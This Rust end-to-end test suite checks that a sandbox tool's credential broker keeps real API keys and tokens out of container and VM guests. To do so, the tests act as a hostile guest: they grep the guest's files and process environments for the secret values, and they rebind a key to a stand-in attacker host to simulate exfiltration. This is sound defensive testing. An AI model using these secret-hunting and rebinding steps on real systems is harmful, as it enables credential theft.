//! Secrets never enter the guest (`SECRETS`, the credential broker), on real Podman and
//! libvirt, as root and as a person. Each test shares one guest across its checks, and plays
//! the guest: root there asks the stand-in API servers (`common::api`) for things through the
//! proxy variables tmpl set, greps its whole filesystem and every process's environment for
//! the real values, and rewrites `SECRETS` to send a value to a host of its own.

mod common;
use common::api::*;
use common::user::TestUser;
use common::*;
use std::io::Write;
use std::process::Stdio;

const KEY: &str = "sk-ant-e2e-REAL-7f3a9c21d4";
const TOKEN: &str = "ghp_e2eREALtoken5b21c0ffee";
const SECRETS: &str =
    "SECRETS=ANTHROPIC_API_KEY@api.broker-e2e.example,GITHUB_TOKEN@git.broker-e2e.example";

/// What the guest's programs do: a request with both secrets' placeholders as headers.
const CLIENT: &str = r#"
import os, sys, urllib.request, urllib.error
key, token = os.environ.get("ANTHROPIC_API_KEY", ""), os.environ.get("GITHUB_TOKEN", "")
req = urllib.request.Request(sys.argv[1], headers={"x-api-key": key, "Authorization": "Bearer " + token})
try:
    print("status", urllib.request.urlopen(req, timeout=30).status)
except urllib.error.HTTPError as e:
    print("status", e.code)
except Exception as e:
    print("error", e)
"#;

fn container(extra: &str) -> String {
    format!("INFRA_TYPE=container\nMEMORY=256\nCPUS=1\nDISK=2\nIMAGE={CONTAINER_IMAGE}\n{SECRETS}\n{extra}")
}

fn vm(extra: &str) -> String {
    format!("INFRA_TYPE=vm\nMEMORY=768\nCPUS=1\nDISK=5\nIMAGE={TEST_BOX}\nSYNC=none\n{SECRETS}\n{extra}")
}

/// Where the values come from: root's tests pass them in tmpl's environment, a person's
/// keep them in their own file (`~/.config/tmpl/secrets.env`, 0600).
#[derive(Clone, Copy, PartialEq)]
enum Values {
    Environment,
    File,
}

struct Case<'a> {
    p: Project,
    world: &'a World,
    values: Values,
}

impl Case<'_> {
    /// `tmpl ARGS` with the values where this case keeps them, and the stand-in CA trusted.
    fn tmpl(&self, args: &[&str]) -> std::process::Output {
        let mut c = self.p.cmd(args);
        c.env("SSL_CERT_FILE", &self.world.ca);
        if self.values == Values::Environment {
            c.env("ANTHROPIC_API_KEY", KEY).env("GITHUB_TOKEN", TOKEN);
        }
        let out = c.output().unwrap();
        eprintln!(
            "$ tmpl {} -> {:?}\n{}{}",
            args.join(" "),
            out.status.code(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    fn up(&self) {
        let out = self.tmpl(&["up"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// `script` run by root in the guest (through sudo in a VM), `input` on its stdin.
    fn root(&self, script: &str, input: Option<&[u8]>) -> String {
        let wrap =
            "if [ \"$(id -u)\" = 0 ]; then exec sh -c \"$1\"; else exec sudo -n sh -c \"$1\"; fi";
        let mut c = self.p.cmd(&["ssh", "--", "sh", "-c", wrap, "tmpl", script]);
        c.stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        if let Some(bytes) = input {
            stdin.write_all(bytes).unwrap();
        }
        drop(stdin);
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    }

    /// The guest's programs ask `url` (through the broker, as the proxy variables say).
    fn ask(&self, url: &str) -> String {
        let out = self
            .p
            .cmd(&["ssh", "--", "python3", "-c", CLIENT, url])
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        eprintln!("guest asks {url}: {said}");
        said
    }

    /// Every file and process environment in the guest that holds a real value. The values
    /// reach grep on its stdin: on a command line, sudo's log would keep them.
    fn where_values_are(&self) -> String {
        let values = format!("{KEY}\n{TOKEN}\n");
        self.root(
            "pats=$(cat); \
             printf '%s\\n' \"$pats\" | grep -rlsF --devices=skip -f - / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; \
             for e in /proc/[0-9]*/environ; do printf '%s\\n' \"$pats\" | grep -qsF -f - \"$e\" && echo \"$e\"; done; true",
            Some(values.as_bytes()),
        )
    }
}

/// Debian's git from this host, its HTTPS helper and the libraries they need, into the guest
/// under /opt (the test images have no git, and guests download nothing).
fn give_git(c: &Case) {
    let d = tempfile::tempdir().unwrap();
    for sub in ["bin", "core", "lib"] {
        std::fs::create_dir_all(d.path().join(sub)).unwrap();
    }
    std::fs::copy("/usr/bin/git", d.path().join("bin/git")).unwrap();
    std::fs::copy(
        "/usr/lib/git-core/git-remote-https",
        d.path().join("core/git-remote-https"),
    )
    .unwrap();
    let ldd = host_ok(
        "ldd",
        &["/usr/bin/git", "/usr/lib/git-core/git-remote-https"],
    );
    for lib in ldd
        .lines()
        .filter_map(|l| l.split("=> ").nth(1)?.split(' ').next())
    {
        let name = std::path::Path::new(lib)
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned();
        // the C library is the guest's own (the same Debian release)
        if [
            "libc.so",
            "libm.so",
            "ld-linux",
            "libpthread",
            "libdl.so",
            "libresolv",
        ]
        .iter()
        .any(|c| name.starts_with(c))
        {
            continue;
        }
        let _ = std::fs::copy(lib, d.path().join("lib").join(&name));
    }
    std::fs::write(
        d.path().join("bin/git-wrapper"),
        "#!/bin/sh\nLD_LIBRARY_PATH=/opt/tmpl-test-git/lib GIT_EXEC_PATH=/opt/tmpl-test-git/core exec /opt/tmpl-test-git/bin/git \"$@\"\n",
    )
    .unwrap();
    let tar = host_ok_bytes(
        "tar",
        &["-C", &d.path().to_string_lossy(), "-czf", "-", "."],
    );
    c.root(
        "mkdir -p /opt/tmpl-test-git && tar -xzf - -C /opt/tmpl-test-git && \
         install -m 0755 /opt/tmpl-test-git/bin/git-wrapper /usr/local/bin/git",
        Some(&tar),
    );
}

fn host_ok_bytes(cmd: &str, args: &[&str]) -> Vec<u8> {
    let out = host(cmd, args);
    assert!(
        out.status.success(),
        "{cmd}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// The checks every guest passes, whoever runs it and whatever it is. Every guest here is
/// fenced, so a LAN address is closed to it and to its broker.
fn common_checks(c: &Case, kind: &str) {
    let placeholder = |name: &str| c.p.sh(&format!("printf %s \"${name}\""));
    let key_ph = placeholder("ANTHROPIC_API_KEY");
    let token_ph = placeholder("GITHUB_TOKEN");
    assert!(
        key_ph.starts_with("tmpl-placeholder-anthropic_api_key-"),
        "{kind}: {key_ph}"
    );
    assert!(
        token_ph.starts_with("tmpl-placeholder-github_token-"),
        "{kind}: {token_ph}"
    );
    // in every session: `exec`, a login shell, through sudo, provisioning (below)
    assert_eq!(
        c.p.ok(&["exec", "printenv", "ANTHROPIC_API_KEY"]).trim(),
        key_ph
    );
    assert_eq!(c.p.sh("sh -lc 'printf %s \"$GITHUB_TOKEN\"'"), token_ph);
    assert_eq!(
        c.root("printf %s \"$GITHUB_TOKEN\"", None),
        token_ph,
        "{kind}: through sudo"
    );
    assert_eq!(
        c.root("cat /root/provisioned-with", None),
        key_ph,
        "{kind}: provisioning"
    );
    assert!(
        c.p.sh("printf %s \"$HTTPS_PROXY\"")
            .starts_with("http://10.13"),
        "{kind}"
    );

    // the stand-in CA, as the guest's store has the internet's: for the tunnelled host
    let ca = std::fs::read(&c.world.ca).unwrap();
    c.root(
        "cat > /usr/local/share/ca-certificates/tmpl-e2e-stand-in.crt && update-ca-certificates >/dev/null",
        Some(&ca),
    );

    // a secret's host gets its value, and another secret's placeholder as it is; another
    // host gets the placeholders, untouched
    assert_eq!(
        c.ask(&format!("https://{API}/v1/messages")),
        "status 200",
        "{kind}"
    );
    let got = c
        .world
        .last("/v1/messages")
        .expect("the stand-in was asked");
    assert_eq!(got["x-api-key"], KEY, "{kind}");
    assert_eq!(got["authorization"], format!("Bearer {token_ph}"), "{kind}");
    assert_eq!(
        c.ask(&format!("https://{GIT}/v1/git")),
        "status 200",
        "{kind}"
    );
    let got = c.world.last("/v1/git").unwrap();
    assert_eq!(got["authorization"], format!("Bearer {TOKEN}"), "{kind}");
    assert_eq!(got["x-api-key"], key_ph.as_str(), "{kind}");
    assert_eq!(
        c.ask(&format!("https://{OTHER}/v1/other")),
        "status 200",
        "{kind}"
    );
    let other = c.world.last("/v1/other").unwrap();
    assert_eq!(
        other["x-api-key"],
        key_ph.as_str(),
        "{kind}: another host gets the placeholder"
    );
    assert_eq!(other["authorization"], format!("Bearer {token_ph}"));

    // git over HTTPS: the helper answers with the placeholder, the stand-in wants the token
    give_git(c);
    let refs = c.p.run(&[
        "ssh",
        "--",
        "git",
        "ls-remote",
        &format!("https://{GIT}/org/repo.git"),
    ]);
    assert!(refs.status.success(), "{kind}: git ls-remote");
    assert!(String::from_utf8_lossy(&refs.stdout).contains("refs/heads/main"));

    // a name that resolves to a LAN address gets nowhere
    let lan = c.ask(&format!("https://{LAN_NAME}/v1/lan"));
    assert!(lan.contains("403"), "{kind}: {lan}");
    assert!(c.world.last("/v1/lan").is_none());

    // nowhere in the guest: not a file, not a process's environment. The detector first
    // finds a value given the way people give one today (`tmpl exec env KEY=… agent`)
    let today =
        c.p.cmd(&[
            "exec",
            "sh",
            "-c",
            &format!("ANTHROPIC_API_KEY={KEY} sleep 120 >/dev/null 2>&1 &"),
        ])
        .output()
        .unwrap();
    assert!(today.status.success());
    let found = c.where_values_are();
    assert!(
        found.contains("/environ"),
        "{kind}: the detector sees a value passed the old way: {found:?}"
    );
    c.root("pkill -f 'sleep 120' || true", None);
    assert_eq!(
        c.where_values_are(),
        "",
        "{kind}: a real value is in the guest"
    );

    // the log: names, hosts, paths, never a value
    let log = c.p.ok(&["secrets", "log", "--json"]);
    assert!(!log.contains(KEY) && !log.contains(TOKEN));
    assert!(log.contains("\"/org/repo.git/info/refs\""), "{log}");
    assert!(log.contains("\"refused\""), "{log}");
    assert!(log.contains("\"withheld\""), "{log}");
}

/// The broker outlives tmpl; one killed is back after the next `up`.
fn broker_lives_on(c: &Case) {
    let status = c.p.status();
    let b = status["credential_broker"].as_str().unwrap().to_owned();
    assert!(b.starts_with("running (pid "), "{b}");
    let pid: i32 = b["running (pid ".len()..]
        .split(')')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    // SAFETY: the broker this test's tmpl started
    assert_eq!(unsafe { libc::kill(pid, libc::SIGKILL) }, 0);
    let gone = eventually(std::time::Duration::from_secs(5), || {
        c.p.status()["credential_broker"]
            .as_str()
            .unwrap()
            .starts_with("not running")
            .then_some(())
    });
    assert!(gone.is_some());
    c.up();
    assert!(c.p.status()["credential_broker"]
        .as_str()
        .unwrap()
        .starts_with("running"));
    assert_eq!(c.ask(&format!("https://{API}/v1/again")), "status 200");
    assert_eq!(c.world.last("/v1/again").unwrap()["x-api-key"], KEY);
}

/// The guest binds a secret to a host of its own: nothing goes there until the person says so.
fn rebinding_waits_for_approval(c: &mut Case, by_the_guest: bool) {
    let env_now = std::fs::read_to_string(c.p.dir.join(".env")).unwrap();
    let evil = env_now.replace(SECRETS, &format!("{SECRETS},ANTHROPIC_API_KEY@{EVIL}"));
    if by_the_guest {
        let file = c.p.dir.join(".env");
        c.root(
            &format!("cat > '{}'", file.display()),
            Some(evil.as_bytes()),
        );
    } else {
        c.p.write(".env", &evil);
    }
    assert!(std::fs::read_to_string(c.p.dir.join(".env"))
        .unwrap()
        .contains(EVIL));
    c.p.auto_trust = false;
    let out = c.tmpl(&["up"]);
    assert_eq!(out.status.code(), Some(77));
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains(&format!("`ANTHROPIC_API_KEY` may be sent to `{EVIL}`")),
        "{said}"
    );
    assert_eq!(c.ask(&format!("https://{EVIL}/v1/evil")), "status 200");
    let got = c.world.last("/v1/evil").unwrap();
    assert_ne!(got["x-api-key"], KEY, "the value went to the guest's host");
    assert!(got["x-api-key"]
        .as_str()
        .unwrap()
        .starts_with("tmpl-placeholder-"));
    c.p.write(".env", &env_now);
    c.p.auto_trust = true;
}

/// Under `EGRESS=none`, the secret's host in `EGRESS_ALLOW` works and nothing else does.
fn none_but_the_secrets_host(c: &Case, env: &str) {
    let none = env.replace(ALLOW, &format!("EGRESS=none\nEGRESS_ALLOW={API}\n"));
    assert_ne!(none, env);
    c.p.write(".env", &none);
    c.up();
    assert_eq!(c.ask(&format!("https://{API}/v1/none")), "status 200");
    assert_eq!(c.world.last("/v1/none").unwrap()["x-api-key"], KEY);
    let other = c.ask(&format!("https://{OTHER}/v1/none-other"));
    assert!(other.contains("403"), "{other}");
    assert!(c.world.last("/v1/none-other").is_none());
    c.p.write(".env", env);
    c.up();
}

const PROVISION: &str = "#!/bin/sh\nprintf %s \"$ANTHROPIC_API_KEY\" > /root/provisioned-with\n";

#[test]
#[cfg_attr(
    not(feature = "e2e"),
    ignore = "needs the real stack: `make test`, or `cargo test --features e2e` after `make setup fixtures`"
)]
fn roots_container_gets_placeholders_and_its_hosts_get_the_values() {
    let world = World::new(TOKEN);
    let env = container(&format!("PROVISION_SCRIPT=provision.sh\n{ALLOW}"));
    let p = Project::new("agent", &env);
    p.write("provision.sh", PROVISION);
    let mut c = Case {
        p,
        world: &world,
        values: Values::Environment,
    };
    // a name without a value: an error before anything is made, naming where tmpl looked
    let out =
        c.p.cmd(&["up"])
            .env("SSL_CERT_FILE", &world.ca)
            .output()
            .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(78), "{said}");
    assert!(
        said.contains("`ANTHROPIC_API_KEY`, `GITHUB_TOKEN` without a value"),
        "{said}"
    );
    assert!(said.contains("secrets.env (not there)"), "{said}");
    assert_eq!(c.p.status()["state"], "not_created");

    c.up();
    common_checks(&c, "root's container");
    // a tmux session tmpl's login starts has them too
    c.p.sh("tmux new-session -d -s agent 'printenv GITHUB_TOKEN > /root/in-tmux; sleep 60'");
    let in_tmux = eventually(std::time::Duration::from_secs(10), || {
        let t = c.p.sh("cat /root/in-tmux 2>/dev/null || true");
        (!t.is_empty()).then_some(t)
    });
    assert!(in_tmux
        .unwrap()
        .starts_with("tmpl-placeholder-github_token-"));
    broker_lives_on(&c);
    rebinding_waits_for_approval(&mut c, true);
    none_but_the_secrets_host(&c, &env);

    // a broker whose guest is gone: doctor lists it, gc ends it
    let slug = c.p.slug();
    host_ok("podman", &["rm", "-f", &format!("tmpl-{slug}")]);
    let doctor = String::from_utf8_lossy(&c.p.run(&["doctor", "--json"]).stdout).to_string();
    assert!(doctor.contains("credential broker"), "{doctor}");
    c.p.ok(&["gc", "--yes"]);
    assert!(c.p.status()["credential_broker"]
        .as_str()
        .unwrap()
        .starts_with("not running"));
    c.up();
    c.p.ok(&["stop"]);
    assert!(c.p.status()["credential_broker"]
        .as_str()
        .unwrap()
        .starts_with("not running"));
    c.p.ok(&["rm", "-f"]);
    let left = host("pgrep", &["-f", &format!("__broker serve .*{slug}")]);
    assert!(!left.status.success(), "rm ends the broker");
}

#[test]
#[cfg_attr(
    not(feature = "e2e"),
    ignore = "needs the real stack: `make test`, or `cargo test --features e2e` after `make setup fixtures`"
)]
fn a_persons_container_gets_placeholders_from_their_rootless_podman() {
    let world = World::new(TOKEN);
    let user = TestUser::new("tmpl-e2e-cred", 2345);
    user.load_image(CONTAINER_IMAGE);
    let env = container(&format!("PROVISION_SCRIPT=provision.sh\n{ALLOW}"));
    let p = Project::new_as(&user, "agent", &env);
    p.write("provision.sh", PROVISION);
    // the person's own file, which tmpl refuses while others can read it
    let file = p.xdg().join("config/tmpl/secrets.env");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(
        &file,
        format!("ANTHROPIC_API_KEY={KEY}\nGITHUB_TOKEN={TOKEN}\n"),
    )
    .unwrap();
    user.own(&p.xdg());
    host_ok("chmod", &["644", &file.to_string_lossy()]);
    let c = Case {
        p,
        world: &world,
        values: Values::File,
    };
    let out = c.tmpl(&["up"]);
    assert_eq!(out.status.code(), Some(78));
    assert!(String::from_utf8_lossy(&out.stderr).contains("others can read it"));
    host_ok("chmod", &["600", &file.to_string_lossy()]);
    c.up();
    common_checks(&c, "a person's container");
    broker_lives_on(&c);
    let mut c = c;
    rebinding_waits_for_approval(&mut c, false);
    none_but_the_secrets_host(&c, &env);
    // every container of theirs stops: Podman drops its namespace, and the broker in it
    // goes with it; the next `up` starts one in the new namespace
    c.p.ok(&["stop"]);
    c.up();
    assert_eq!(c.ask(&format!("https://{API}/v1/after-stop")), "status 200");
    assert_eq!(c.world.last("/v1/after-stop").unwrap()["x-api-key"], KEY);
    c.p.ok(&["rm", "-f"]);
}

#[test]
#[cfg_attr(
    not(feature = "e2e"),
    ignore = "needs the real stack: `make test`, or `cargo test --features e2e` after `make setup fixtures`"
)]
fn roots_vm_gets_placeholders_and_its_hosts_get_the_values() {
    let world = World::new(TOKEN);
    let env = vm(&format!("PROVISION_SCRIPT=provision.sh\n{ALLOW}"));
    let p = Project::new("agent-vm", &env);
    p.write("provision.sh", PROVISION);
    let mut c = Case {
        p,
        world: &world,
        values: Values::Environment,
    };
    c.up();
    common_checks(&c, "root's VM");
    broker_lives_on(&c);
    rebinding_waits_for_approval(&mut c, false);
    none_but_the_secrets_host(&c, &env);
    c.p.ok(&["stop"]);
    assert!(c.p.status()["credential_broker"]
        .as_str()
        .unwrap()
        .starts_with("not running"));
    c.p.ok(&["rm", "-f"]);
}

/// A person's VM, fenced by root's libvirt hook: the broker keeps the values out of it,
/// listening on the VM's gateway as the person, and its fence holds for the broker too.
#[test]
#[cfg_attr(
    not(feature = "e2e"),
    ignore = "needs the real stack: `make test`, or `cargo test --features e2e` after `make setup fixtures`"
)]
fn a_persons_vm_gets_placeholders_too() {
    let world = World::new(TOKEN);
    let user = TestUser::new("tmplvmcred", 2346);
    user.give_box(TEST_BOX);
    let env = vm(&format!("PROVISION_SCRIPT=provision.sh\n{ALLOW}"));
    let p = Project::new_as(&user, "agent-vm", &env);
    p.write("provision.sh", PROVISION);
    let file = p.xdg().join("config/tmpl/secrets.env");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(
        &file,
        format!("ANTHROPIC_API_KEY={KEY}\nGITHUB_TOKEN={TOKEN}\n"),
    )
    .unwrap();
    user.own(&p.xdg());
    host_ok("chmod", &["600", &file.to_string_lossy()]);
    let c = Case {
        p,
        world: &world,
        values: Values::File,
    };
    c.up();
    common_checks(&c, "a person's VM");
    broker_lives_on(&c);
    c.p.ok(&["rm", "-f"]);
}
